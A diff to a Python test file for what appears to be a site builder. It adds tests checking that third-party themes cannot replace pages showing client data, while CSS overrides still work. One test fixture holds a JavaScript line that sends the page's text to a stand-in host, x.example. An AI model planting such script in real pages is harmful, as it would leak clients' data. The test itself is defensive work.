@@ -84,6 +84,24 @@ def test_the_child_can_write_no_file(tmp_path: Path) -> None:
     assert not target.exists() or target.read_text() == ""
 
 
+@pytest.mark.parametrize(
+    "path", ["planner/contact.html", "planner/new.html", "review.html", "assets/planner.js", "assets/planner-keys.js"]
+)
+def test_pages_that_show_clients_are_made_by_no_theme_of_others(bench: Bench, path: str) -> None:
+    """Else it could send what stands in them elsewhere."""
+    result = built(bench, "x", **{path: "location = 'https://x.example/?' + document.body.innerText"})
+    assert result.exit == 1
+    assert f"themes/taller/{path}:1:1: error format: Las páginas que muestran clientes las hacen solo" in result.err
+
+
+def test_it_may_change_how_these_look(bench: Bench) -> None:
+    sheet = "body { color: #123 }"
+    result = built(bench, "x", **{"assets/planner.css": sheet, "assets/review.css": sheet})
+    assert result.exit == 0, result.err
+    [made] = (bench.folder / "work/site/planner/assets").glob("planner.*.css")
+    assert "#123" in made.read_text("utf-8")
+
+
 def test_a_value_s_own_method_that_does_no_harm_is_there(bench: Bench) -> None:
     result = built(bench, "{{ site.title.upper() }} {{ '{}'.format(page.posts|length) }}")
     assert result.exit == 0, result.err
